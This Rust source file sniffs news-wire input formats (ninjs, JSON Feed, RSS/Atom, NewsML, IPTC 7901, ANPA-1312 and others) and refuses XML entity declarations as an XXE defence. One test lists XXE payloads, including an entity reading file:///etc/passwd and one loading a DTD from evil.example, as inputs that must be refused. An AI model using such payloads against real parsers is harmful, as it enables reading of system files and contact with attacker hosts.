//! From text to a format: JSON told apart by its keys, the XML prolog walked to the root
//! (entity declarations refused here, before any XML parser sees the file), transmission
//! framing, e-mail and plain text.
//! Must not: decode items, or look at anything but the text (no file names, no MIME types).

use std::borrow::Cow;

use serde_json::{Map, Value};

use crate::{DecodeError, Format, ninjs};

/// What the content turned out to be, with what was learnt on the way so nothing is parsed twice.
#[derive(Debug)]
pub(crate) enum Sniffed<'a> {
    PlainText,
    Ninjs(ninjs::Delivery<'a>),
    JsonFeed,
    ApMedia(Value),
    DigitalWires(Value),
    /// IPTC 7901 or ANPA-1312: copy framed by transmission control characters.
    Transmission(Format),
    /// An e-mail message; read again from the text's bytes.
    Email,
    /// `root` is the byte offset of the root element's `<` in the text.
    Xml {
        format: Format,
        root: usize,
    },
}

impl Sniffed<'_> {
    pub(crate) fn format(&self) -> Format {
        match self {
            Sniffed::PlainText => Format::PlainText,
            Sniffed::Ninjs(_) => Format::Ninjs,
            Sniffed::JsonFeed => Format::JsonFeed,
            Sniffed::ApMedia(_) => Format::ApMedia,
            Sniffed::DigitalWires(_) => Format::DigitalWires,
            Sniffed::Transmission(format) => *format,
            Sniffed::Email => Format::Email,
            Sniffed::Xml { format, .. } => *format,
        }
    }
}

pub(crate) fn sniff_text(text: &str) -> Result<Sniffed<'_>, DecodeError> {
    if let Some(marker) = template_marker(text) {
        return Err(DecodeError::Template {
            marker: marker.to_string(),
        });
    }
    let start = text.len() - text.trim_start().len();
    match text[start..].chars().next() {
        Some('{') | Some('[') => sniff_json(&text[start..]),
        Some('<') => sniff_xml(text, start),
        _ => {
            if let Some(format) = transmission(text) {
                return Ok(Sniffed::Transmission(format));
            }
            // An "Received: from …" headline would be the result otherwise.
            if crate::email::looks_like(text) {
                return Ok(Sniffed::Email);
            }
            check_plain_text(text)?;
            refuse_markdown(text)?;
            Ok(Sniffed::PlainText)
        }
    }
}

/// IPTC 7901 and ANPA-1312 open with SOH (after optional SYN characters) and carry the text
/// after STX. ANPA's header is a letter and a four-digit story number ending in a US (0x1F)
/// before the selector code; IPTC 7901's is a source id, a number and a priority digit.
fn transmission(text: &str) -> Option<Format> {
    let head = text.trim_start_matches(['\u{16}', ' ', '\r', '\n']);
    let header = head.strip_prefix('\u{1}')?;
    if !text.contains('\u{2}') {
        return None;
    }
    let line = header.split(['\r', '\n']).next().unwrap_or("");
    let b = line.as_bytes();
    if b.len() >= 6
        && b[0].is_ascii_alphabetic()
        && b[1..5].iter().all(u8::is_ascii_digit)
        && b[5] == 0x1F
    {
        return Some(Format::Anpa1312);
    }
    let mut words = line.split_whitespace();
    let id = words.next()?;
    let priority = words.next()?;
    (id.len() >= 3
        && id.chars().all(|c| c.is_ascii_alphanumeric())
        && id.chars().next().is_some_and(|c| c.is_ascii_alphabetic())
        && priority.len() == 1
        && priority.chars().all(|c| c.is_ascii_digit()))
    .then_some(Format::Iptc7901)
}

/// Whether the delivery's first bytes are the headers of an e-mail message (`email::looks_like`
/// over their text): checked on bytes, before the whole file is read as one text.
pub(crate) fn is_email(bytes: &[u8]) -> bool {
    let head = &bytes[..bytes.len().min(8192)];
    crate::email::looks_like(&String::from_utf8_lossy(head))
}

/// The first placeholder of the demo corpus's templates (`site/demo/corpus/`: a first line
/// `@received T-30h`, times as `{{T-30h:dateline}}`) left in `text`. Loaded as it stands, a
/// template would publish its placeholders, so only `wiredesk demo`, which fills them in,
/// reads those files.
fn template_marker(text: &str) -> Option<&str> {
    let first = text.trim_start().lines().next().unwrap_or("").trim_end();
    if first
        .strip_prefix("@received T-")
        .is_some_and(|rest| time_offset(rest).is_some_and(str::is_empty))
    {
        return Some(first);
    }
    text.match_indices("{{T-").find_map(|(at, _)| {
        let after = time_offset(&text[at + 4..])?.strip_prefix(':')?;
        let close = after.find("}}")?;
        let format = &after[..close];
        let end = text.len() - after.len() + close + 2;
        (!format.is_empty()
            && format
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '-'))
        .then(|| &text[at..end])
    })
}

/// What follows a time offset's digits and unit (`30h` of `T-30h`), when `text` opens with one.
fn time_offset(text: &str) -> Option<&str> {
    let digits = text.len() - text.trim_start_matches(|c: char| c.is_ascii_digit()).len();
    let rest = text[digits..].strip_prefix(['m', 'h', 'd'])?;
    (digits > 0).then_some(rest)
}

/// Plain text whose first line is a Markdown heading (`# Title`, `## Notes`) is a document,
/// such as a README left among the wire files, not agency copy: no agency sends its headline
/// behind hashes and a space.
fn refuse_markdown(text: &str) -> Result<(), DecodeError> {
    let first = text.trim_start().lines().next().unwrap_or("").trim_end();
    let hashes = first.len() - first.trim_start_matches('#').len();
    if (1..=6).contains(&hashes) && first[hashes..].starts_with(' ') {
        return Err(DecodeError::Markdown {
            heading: first.to_string(),
        });
    }
    Ok(())
}

fn check_plain_text(text: &str) -> Result<(), DecodeError> {
    // Tab, newline, carriage return and form feed occur in honest copy; any other C0 control
    // is transmission framing that would end up in the headline.
    match text
        .bytes()
        .enumerate()
        .find(|(_, b)| b.is_ascii_control() && !matches!(b, b'\t' | b'\n' | b'\r' | 0x0C | 0x7F))
    {
        Some((offset, byte)) => Err(DecodeError::ControlCharacter { byte, offset }),
        None => Ok(()),
    }
}

fn json_error(e: serde_json::Error) -> DecodeError {
    if e.is_eof() {
        DecodeError::TruncatedJson {
            line: e.line(),
            column: e.column(),
        }
    } else {
        DecodeError::MalformedJson {
            reason: e.to_string(),
        }
    }
}

fn sniff_json(text: &str) -> Result<Sniffed<'_>, DecodeError> {
    // Most JSON is a ninjs story, read here in one pass straight from the text. That reading
    // gives up at the keys of AP Media API, digitalwires and JSON Feed, so what it leaves of
    // `classify` is the rule for a story: an id and a key that carries copy. Whatever it cannot
    // vouch for (other formats, events, broken items) is parsed whole into a `Value` below,
    // which has every other answer and every message.
    if let Some(delivery) = ninjs::read(text) {
        let is_story = |item: &ninjs::NinjsItem| {
            let id = |s: &Option<Cow<str>>| s.as_deref().is_some_and(|s| !s.trim().is_empty());
            item.copy_keys && (id(&item.uri) || id(&item.guid))
        };
        let ninjs = match &delivery {
            ninjs::Delivery::One(item) => is_story(item),
            ninjs::Delivery::Batch(items) => items.iter().any(is_story),
            ninjs::Delivery::Value(_) => false,
        };
        if ninjs {
            return Ok(Sniffed::Ninjs(delivery));
        }
    }
    sniff_json_whole(text)
}

/// The long way: the text parsed whole into a `Value`, then told apart by its keys.
fn sniff_json_whole(text: &str) -> Result<Sniffed<'_>, DecodeError> {
    let value: Value = serde_json::from_str(text).map_err(json_error)?;
    let unknown = |detail: &str| DecodeError::UnknownJson {
        detail: detail.to_string(),
    };
    match &value {
        Value::Object(map) if map.contains_key("api_version") && map.contains_key("data") => {
            Ok(Sniffed::ApMedia(value))
        }
        Value::Object(map)
            if matches!(map.get("format"), Some(Value::String(f)) if f.starts_with("digitalwires"))
                || (map.contains_key("entry_id") && map.contains_key("urn")) =>
        {
            Ok(Sniffed::DigitalWires(value))
        }
        Value::Object(map) => match classify(map) {
            Ok(JsonKind::Ninjs) => Ok(Sniffed::Ninjs(ninjs::Delivery::Value(value))),
            Ok(JsonKind::JsonFeed) => Ok(Sniffed::JsonFeed),
            Err(e) => match bbc_items(map) {
                Some(items) => Ok(Sniffed::Ninjs(ninjs::Delivery::Value(items))),
                None => Err(e),
            },
        },
        // A batch of ninjs items; JSON Feed is always an object, so only ninjs can be meant.
        Value::Array(list) if list.is_empty() => Err(unknown("an empty JSON array")),
        Value::Array(list) => {
            let mut first_error = None;
            for item in list {
                match item {
                    Value::Object(map) => match classify(map) {
                        Ok(JsonKind::Ninjs) => {
                            return Ok(Sniffed::Ninjs(ninjs::Delivery::Value(value)));
                        }
                        Ok(JsonKind::JsonFeed) => {}
                        Err(e) => {
                            first_error.get_or_insert(e);
                        }
                    },
                    _ => {
                        first_error.get_or_insert(unknown("an array element is not an object"));
                    }
                }
            }
            Err(match first_error {
                Some(DecodeError::UnknownJson { detail }) => {
                    unknown(&format!("a JSON array with no ninjs item in it ({detail})"))
                }
                Some(other) => other,
                None => unknown("a JSON array of JSON Feeds; send one feed per file"),
            })
        }
        _ => Err(unknown("a bare JSON value, not an object")),
    }
}

/// The BBC's ninjs variant (Local Democracy Reporting Service) sends a page of results,
/// `{"total": n, "limit": …, "offset": …, "item": [ninjs items]}`: its items, as a batch.
/// Only an object that is no ninjs item itself is read so.
fn bbc_items(map: &Map<String, Value>) -> Option<Value> {
    let items = map.get("item")?.as_array()?;
    map.get("total")?.as_u64()?;
    Some(Value::Array(items.clone()))
}

enum JsonKind {
    Ninjs,
    JsonFeed,
}

fn classify(map: &Map<String, Value>) -> Result<JsonKind, DecodeError> {
    if let Some(Value::String(version)) = map.get("version")
        && (version.starts_with("https://jsonfeed.org/version/")
            || version.starts_with("http://jsonfeed.org/version/"))
    {
        return Ok(JsonKind::JsonFeed);
    }
    let id = ["uri", "guid"].iter().find_map(|k| match map.get(*k) {
        Some(Value::String(s)) if !s.trim().is_empty() => Some(s.trim()),
        _ => None,
    });
    let has_content = map.keys().any(|k| {
        matches!(k.as_str(), "headline" | "headlines" | "bodies") || k.starts_with("body_")
    });
    let unknown = |detail: &str| DecodeError::UnknownJson {
        detail: detail.to_string(),
    };
    match (id, has_content) {
        (Some(_), true) => Ok(JsonKind::Ninjs),
        // ninjs 3 also carries events and planning; they are not stories to publish.
        (Some(uri), false)
            if map.contains_key("eventDetails")
                || map.contains_key("plannedCoverage")
                || matches!(map.get("type"), Some(Value::String(t)) if t == "event" || t == "planning") =>
        {
            Err(DecodeError::Ninjs {
                reason: format!(
                    "item {uri} is an event or planning item, not a story (it has no headline)"
                ),
            })
        }
        (Some(_), false) => Err(unknown("missing `headline`/`headlines`")),
        _ if map.contains_key("items") => Err(unknown(
            "looks like a JSON Feed, but `version` is not a https://jsonfeed.org/version/ URL",
        )),
        (None, true) => Err(unknown("missing `uri`/`guid`")),
        (None, false) => Err(unknown("missing `uri`/`guid` and `headline`/`headlines`")),
    }
}

/// Walks the prolog (declaration, comments, processing instructions, DOCTYPE) to the root tag.
fn sniff_xml(text: &str, start: usize) -> Result<Sniffed<'_>, DecodeError> {
    let malformed = |reason: &str| DecodeError::MalformedXml {
        reason: reason.to_string(),
    };
    let mut at = start;
    loop {
        let rest = &text[at..];
        let trimmed = rest.trim_start();
        at += rest.len() - trimmed.len();
        let rest = trimmed;
        if rest.is_empty() {
            return Err(malformed(
                "no root element after the XML declaration (truncated?)",
            ));
        } else if rest.starts_with("<?") {
            let end = rest
                .find("?>")
                .ok_or_else(|| malformed("truncated: a <?…?> instruction never closes"))?;
            at += end + 2;
        } else if rest.starts_with("<!--") {
            let end = rest
                .find("-->")
                .ok_or_else(|| malformed("truncated: a comment before the root never closes"))?;
            at += end + 3;
        } else if starts_with_ignore_case(rest, "<!DOCTYPE") {
            let end = doctype_len(rest)?;
            if contains_ignore_case(&rest[..end], "<!ENTITY") {
                return Err(DecodeError::XmlEntities);
            }
            at += end;
        } else if rest.starts_with("<!") {
            // <!ENTITY or <!ELEMENT outside a DOCTYPE is not XML; refuse it the same way so a
            // lenient parser downstream never gets to interpret it.
            if starts_with_ignore_case(rest, "<!ENTITY") {
                return Err(DecodeError::XmlEntities);
            }
            return Err(malformed("unexpected <! markup before the root element"));
        } else if let Some(tag) = rest.strip_prefix('<') {
            let name_len = tag
                .find(|c: char| c.is_whitespace() || c == '>' || c == '/')
                .unwrap_or(tag.len());
            let name = &tag[..name_len];
            if name.is_empty() || !name.starts_with(|c: char| c.is_alphabetic() || c == '_') {
                return Err(malformed("the root tag has no element name"));
            }
            let local = name.rsplit(':').next().unwrap_or(name);
            let format = match local {
                "rss" | "RDF" => Format::Rss,
                "feed" => Format::Atom,
                "newsMessage" | "newsItem" | "packageItem" | "conceptItem" | "knowledgeItem"
                | "planningItem" | "catalogItem" | "contentSet" => Format::NewsmlG2,
                "nitf" => Format::Nitf,
                "NewsML" => Format::Newsml1,
                "RBNews" | "XMLNewsQueuedResponse" => Format::Ritzau,
                _ if local.eq_ignore_ascii_case("html") => return Err(DecodeError::HtmlPage),
                _ => {
                    return Err(DecodeError::UnsupportedXml {
                        root: name.chars().take(80).collect(),
                    });
                }
            };
            return Ok(Sniffed::Xml { format, root: at });
        } else {
            return Err(malformed("text before the root element"));
        }
    }
}

/// Length of `<!DOCTYPE …>`, internal subset `[…]` included.
fn doctype_len(rest: &str) -> Result<usize, DecodeError> {
    let truncated = || DecodeError::MalformedXml {
        reason: "truncated: the DOCTYPE never closes".into(),
    };
    let bytes = rest.as_bytes();
    let mut quote = None;
    let mut i = 0;
    while i < bytes.len() {
        let b = bytes[i];
        match quote {
            Some(q) if b == q => quote = None,
            Some(_) => {}
            None => match b {
                b'"' | b'\'' => quote = Some(b),
                b'>' => return Ok(i + 1),
                b'[' => {
                    // Entity declarations live in the internal subset. Refuse any document
                    // whose subset-and-after mentions one, rather than parse the subset, so no
                    // quoting trick can hide a declaration from this check.
                    let subset = &rest[i..];
                    if contains_ignore_case(subset, "<!ENTITY") {
                        return Err(DecodeError::XmlEntities);
                    }
                    let mut from = 0;
                    loop {
                        let close = from + subset[from..].find(']').ok_or_else(truncated)?;
                        let after = &subset[close + 1..];
                        let gap = after.len() - after.trim_start().len();
                        if after[gap..].starts_with('>') {
                            return Ok(i + close + 1 + gap + 1);
                        }
                        from = close + 1;
                    }
                }
                _ => {}
            },
        }
        i += 1;
    }
    Err(truncated())
}

fn starts_with_ignore_case(s: &str, prefix: &str) -> bool {
    s.get(..prefix.len())
        .is_some_and(|head| head.eq_ignore_ascii_case(prefix))
}

fn contains_ignore_case(haystack: &str, needle: &str) -> bool {
    haystack
        .as_bytes()
        .windows(needle.len())
        .any(|w| w.eq_ignore_ascii_case(needle.as_bytes()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    /// A JSON value of the kinds ninjs producers send, and of the kinds that trip a reader:
    /// escapes, a lone surrogate, a number out of range, the wrong type.
    fn json_value() -> impl Strategy<Value = String> {
        crate::tests::json_text(
            vec![
                "null",
                "true",
                "3",
                "-1",
                "2.5",
                "1e999",
                r#""2026-11-28T21:00:00Z""#,
                r#""urn:wire:1""#,
                r#""usable""#,
                r#""picture""#,
                r#""text/html""#,
                r#""<p>Rates \u00e9 \"up\"</p>""#,
                r#""\ud800""#,
                r#""  two  words ""#,
                r#""medtop:04000000""#,
                r#""https://jsonfeed.org/version/1.1""#,
                r#""digitalwires-1""#,
            ],
            vec![
                "name",
                "value",
                "role",
                "type",
                "uri",
                "href",
                "code",
                "scheme",
                "headline",
                "renditions",
                "contenttype",
                "width",
                "caption",
                "altids",
                "itemid",
                "other",
            ],
            3,
            4,
        )
    }

    /// A ninjs-shaped delivery: keys of every ninjs version (some sent twice), of the other
    /// JSON formats, and unknown ones, each with any value; one item or a batch.
    fn json_delivery() -> impl Strategy<Value = String> {
        let key = prop::sample::select(vec![
            "uri",
            "guid",
            "type",
            "version",
            "pubstatus",
            "pubStatus",
            "firstcreated",
            "versionCreated",
            "embargoed",
            "language",
            "slugline",
            "headline",
            "headlines",
            "bodies",
            "body_html",
            "body_text",
            "description_text",
            "descriptions",
            "byline",
            "by",
            "located",
            "subject",
            "subjects",
            "infosource",
            "infoSources",
            "copyrightholder",
            "source",
            "keywords",
            "associations",
            "provider",
            "links",
            "api_version",
            "data",
            "format",
            "entry_id",
            "urn",
            "items",
            "extra",
            "urgency",
            "item",
            "total",
        ]);
        // Mostly members as producers send them, so that the quick reading answers for many
        // deliveries and is compared, not just the long way with itself; the rest any key with
        // any value.
        let well_formed = prop::sample::select(vec![
            r#""guid":"urn:wire:guid""#,
            r#""type":"text""#,
            r#""version":"2""#,
            r#""version":3"#,
            r#""pubstatus":"usable""#,
            r#""pubStatus":"canceled""#,
            r#""firstcreated":"2026-11-28T21:00:00Z""#,
            r#""versionCreated":"2026-11-28T21:05:00+01:00""#,
            r#""embargoed":"2026-11-29T06:00:00Z""#,
            r#""language":"en""#,
            r#""slugline":"storm-port""#,
            r#""headlines":[{"role":"main","value":"Port shut \u00e9"}]"#,
            r#""bodies":[{"role":"main","contentType":"text/html","value":"<p>Ships wait.</p>"}]"#,
            r#""body_html":"<p>Ships  wait \"outside\".</p>""#,
            r#""body_text":"Ships wait.""#,
            r#""description_text":"A storm.""#,
            r#""descriptions":[{"role":"summary","value":"A storm."}]"#,
            r#""byline":"Ana Ruiz""#,
            r#""by":"Ana Ruiz""#,
            r#""located":"Lisbon""#,
            r#""subject":[{"code":"04000000","scheme":"http://cv.iptc.org/newscodes/subjectcode/","name":"Economy"}]"#,
            r#""subjects":[{"uri":"http://cv.iptc.org/newscodes/mediatopic/04000000","name":"economy"}]"#,
            r#""infosource":[{"name":"Wire"}]"#,
            r#""infoSources":[{"name":"Wire","role":"originator"}]"#,
            r#""copyrightholder":"Wire Ltd""#,
            r#""source":"Wire""#,
            r#""keywords":["port","storm"]"#,
            r#""associations":{"featuremedia":{"type":"picture","headline":"Quay","renditions":{"baseImage":{"href":"https://wire.example/p.jpg","width":640}}}}"#,
            r#""associations":[{"name":"photo","type":"picture","caption":"The quay."}]"#,
            r#""provider":{"name":"Wire"}"#,
            r#""links":[{"href":"https://wire.example/s","rel":"canonical"}]"#,
            r#""urgency":3"#,
            r#""urgency":"2""#,
        ])
        .prop_map(str::to_string);
        let any_member = (key, json_value()).prop_map(|(k, v)| format!("\"{k}\":{v}"));
        let member = prop_oneof![6 => well_formed, 1 => any_member];
        let item = (
            prop::collection::vec(member.boxed(), 0..6),
            prop::bool::weighted(0.85),
            prop::bool::weighted(0.7),
        )
            .prop_map(|(mut members, with_id, with_headline)| {
                if with_id {
                    members.insert(0, r#""uri":"urn:wire:story""#.to_string());
                }
                if with_headline {
                    members.push(r#""headline":"Storm closes the port""#.to_string());
                }
                format!("{{{}}}", members.join(","))
            })
            .boxed();
        prop_oneof![
            3 => item.clone(),
            1 => prop::collection::vec(item, 1..3)
                .prop_map(|items| format!("[{}]", items.join(","))),
        ]
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(3000))]
        /// The quick reading's rule (ARCHITECTURE.md, decode): whatever it answers for, it answers as
        /// the long way would, stories and refusals alike, message for message.
        #[test]
        fn the_quick_reading_of_json_agrees_with_the_long_way(text in json_delivery()) {
            let long_way = sniff_json_whole(&text).and_then(|s| crate::decode_sniffed(&text, s));
            prop_assert_eq!(crate::decode(text.as_bytes()), long_way);
        }
    }

    #[test]
    fn a_bbc_page_of_ninjs_items_is_a_batch() {
        let page = r#"{"total": 2, "limit": 20, "offset": 0, "item": [
            {"uri": "https://wire.example/1", "type": "story", "headline": "One", "body_html": "<p>1</p>", "urgency": 2},
            {"uri": "https://wire.example/2", "type": "story", "headline": "Two", "body_text": "2"}]}"#;
        let decoded = crate::decode(page.as_bytes()).unwrap();
        assert_eq!(decoded.format, Format::Ninjs);
        let headlines: Vec<_> = decoded.items.iter().map(|i| i.headline.as_str()).collect();
        assert_eq!(headlines, ["One", "Two"]);
        assert_eq!(decoded.items[0].urgency, Some(2));
        let empty = r#"{"total": 0, "limit": 20, "offset": 0, "item": []}"#;
        assert_eq!(
            crate::decode(empty.as_bytes()).unwrap_err().to_string(),
            "ninjs array holds no items"
        );
        // Without `total` it is no BBC page: the reason given is the usual one.
        let other = r#"{"item": []}"#;
        assert!(matches!(
            crate::decode(other.as_bytes()),
            Err(DecodeError::UnknownJson { .. })
        ));
    }

    fn format_of(text: &str) -> Result<Format, DecodeError> {
        sniff_text(text).map(|s| s.format())
    }

    #[test]
    fn the_prolog_is_walked_to_the_root_element() {
        let rss = "\n<?xml version=\"1.0\"?>\n<!-- a comment -->\n<?xml-stylesheet href=\"a.xsl\"?>\n<!DOCTYPE rss PUBLIC \"-//Netscape Communications//DTD RSS 0.91//EN\" \"http://my.netscape.com/publish/formats/rss-0.91.dtd\">\n<rss version=\"0.91\">";
        assert_eq!(format_of(rss), Ok(Format::Rss));
        assert_eq!(format_of("<rdf:RDF xmlns:rdf=\"x\">"), Ok(Format::Rss));
        assert_eq!(
            format_of("<feed xmlns=\"http://www.w3.org/2005/Atom\">"),
            Ok(Format::Atom)
        );
        assert_eq!(format_of("<atom:feed xmlns:atom=\"x\">"), Ok(Format::Atom));
        let Ok(Sniffed::Xml { root, .. }) = sniff_text("  <?xml version=\"1.0\"?><feed/>") else {
            panic!("not XML");
        };
        assert_eq!(root, 23);
    }

    #[test]
    fn every_spelling_of_an_entity_declaration_is_refused() {
        for doc in [
            r#"<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><rss version="2.0"/>"#,
            r#"<!doctype x [<!entity e "x">]><rss/>"#,
            r#"<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><feed/>"#,
            r#"<!DOCTYPE x SYSTEM "a>b" [<!ENTITY e "x">]><feed/>"#,
            r#"<!DOCTYPE x [<!ATTLIST a b CDATA "]>"><!ENTITY e "x">]><feed/>"#,
            r#"<?xml version="1.0"?><!ENTITY e "x"><feed/>"#,
        ] {
            assert_eq!(format_of(doc), Err(DecodeError::XmlEntities), "{doc}");
        }
    }

    #[test]
    fn a_doctype_without_entities_is_allowed() {
        assert_eq!(
            format_of("<!DOCTYPE rss [<!ELEMENT rss ANY>]>\n<rss version=\"2.0\">"),
            Ok(Format::Rss)
        );
    }

    #[test]
    fn entity_text_inside_the_document_is_not_a_declaration() {
        let rss = "<rss version=\"2.0\"><channel><item><description><![CDATA[<!ENTITY is XML syntax]]></description></item></channel></rss>";
        assert_eq!(format_of(rss), Ok(Format::Rss));
    }

    #[test]
    fn demo_templates_are_refused_in_every_format_and_filled_copy_is_not() {
        let refused = |text: &str| match crate::decode(text.as_bytes()) {
            Err(DecodeError::Template { marker }) => marker,
            other => panic!("{text:?}: {other:?}"),
        };
        assert_eq!(
            refused("@received T-30h\nFloods\n\nGuwahati, Nov 3 (IANS) Rivers rose."),
            "@received T-30h"
        );
        assert_eq!(
            refused("Floods\n\nGuwahati, {{T-30h:dateline}} (IANS) Rivers rose."),
            "{{T-30h:dateline}}"
        );
        assert_eq!(
            refused("बाढ़\n\nगुवाहाटी, {{T-30h:dateline-hi}} (आईएएनएस)। नदियाँ उफान पर।"),
            "{{T-30h:dateline-hi}}"
        );
        assert_eq!(
            refused(
                r#"{"uri": "urn:x:1", "versioncreated": "{{T-2d:rfc3339}}", "body_text": "x"}"#
            ),
            "{{T-2d:rfc3339}}"
        );
        assert_eq!(
            refused("<rss version=\"2.0\"><pubDate>{{T-20m:rfc2822}}</pubDate></rss>"),
            "{{T-20m:rfc2822}}"
        );
        // Braces and "@received" that are not the template's placeholders are copy.
        for copy in [
            "Floods\n\nGuwahati, Nov 3 (IANS) The template {{T-<n><unit>:<fmt>}} is prose.",
            "Floods\n\nGuwahati, Nov 3 (IANS) @received T-30h was a tweet's text.",
            "@received Tuesday\n\nGuwahati, Nov 3 (IANS) Rivers rose.",
        ] {
            assert!(crate::decode(copy.as_bytes()).is_ok(), "{copy:?}");
        }
    }

    #[test]
    fn a_markdown_document_is_not_plain_text_copy() {
        let readme = "# Demo wire corpus\n\nAll copy in this folder is fictional.";
        assert_eq!(
            crate::decode(readme.as_bytes()),
            Err(DecodeError::Markdown {
                heading: "# Demo wire corpus".into()
            })
        );
        assert!(
            DecodeError::Markdown {
                heading: "## Notes".into()
            }
            .to_string()
            .contains("not wire copy")
        );
        // A hashtag is not a heading, nor are seven hashes.
        for copy in [
            "#MeToo march fills Delhi streets\n\nNew Delhi, Nov 3 (IANS) Thousands marched.",
            "####### Not a heading\n\nNew Delhi, Nov 3 (IANS) Thousands marched.",
        ] {
            assert!(crate::decode(copy.as_bytes()).is_ok(), "{copy:?}");
        }
    }

    #[test]
    fn unknown_and_broken_xml_is_named() {
        assert_eq!(
            format_of("<ImageData><head/></ImageData>"),
            Err(DecodeError::UnsupportedXml {
                root: "ImageData".into()
            })
        );
        assert_eq!(format_of("<RBNews/>"), Ok(Format::Ritzau));
        assert_eq!(format_of("<nitf><head/></nitf>"), Ok(Format::Nitf));
        assert_eq!(format_of("<g2:newsItem/>"), Ok(Format::NewsmlG2));
        assert_eq!(format_of("<NewsML/>"), Ok(Format::Newsml1));
        assert_eq!(
            format_of("<!DOCTYPE html>\n<html lang=\"en\">"),
            Err(DecodeError::HtmlPage)
        );
        for (doc, reason) in [
            (
                "<?xml version=\"1.0\"",
                "truncated: a <?…?> instruction never closes",
            ),
            (
                "<?xml version=\"1.0\"?>\n",
                "no root element after the XML declaration (truncated?)",
            ),
            (
                "<!DOCTYPE x [<!ELEMENT x ANY>",
                "truncated: the DOCTYPE never closes",
            ),
            (
                "<!-- never closed",
                "truncated: a comment before the root never closes",
            ),
            (
                "<?xml version=\"1.0\"?>junk<rss/>",
                "text before the root element",
            ),
            ("< rss>", "the root tag has no element name"),
        ] {
            assert_eq!(
                format_of(doc),
                Err(DecodeError::MalformedXml {
                    reason: reason.into()
                }),
                "{doc}"
            );
        }
    }

    #[test]
    fn json_is_told_apart_by_its_keys() {
        assert_eq!(
            format_of(r#"{"version": "https://jsonfeed.org/version/1.1", "items": []}"#),
            Ok(Format::JsonFeed)
        );
        assert_eq!(
            format_of(r#"{"uri": "urn:x", "bodies": []}"#),
            Ok(Format::Ninjs)
        );
        assert_eq!(
            format_of(r#"{"guid": "urn:x", "body_html": "<p/>"}"#),
            Ok(Format::Ninjs)
        );
        assert_eq!(
            format_of(r#"[{"uri": "urn:x", "headline": "h"}]"#),
            Ok(Format::Ninjs)
        );
        for (doc, detail) in [
            (r#"{"headline": "h"}"#, "missing `uri`/`guid`"),
            (
                r#"{"title": "t"}"#,
                "missing `uri`/`guid` and `headline`/`headlines`",
            ),
            (
                r#"{"version": "1", "items": []}"#,
                "looks like a JSON Feed, but `version` is not a https://jsonfeed.org/version/ URL",
            ),
            ("[]", "an empty JSON array"),
            (
                "[1]",
                "a JSON array with no ninjs item in it (an array element is not an object)",
            ),
        ] {
            assert_eq!(
                format_of(doc),
                Err(DecodeError::UnknownJson {
                    detail: detail.into()
                }),
                "{doc}"
            );
        }
    }

    #[test]
    fn broken_json_says_whether_it_was_cut_off() {
        assert_eq!(
            format_of("{\"uri\": \"urn:x\",\n \"headline\": \"h"),
            Err(DecodeError::TruncatedJson {
                line: 2,
                column: 15
            })
        );
        assert!(matches!(
            format_of("{\"uri\": \"urn:x\" \"headline\": 1}"),
            Err(DecodeError::MalformedJson { .. })
        ));
    }
}
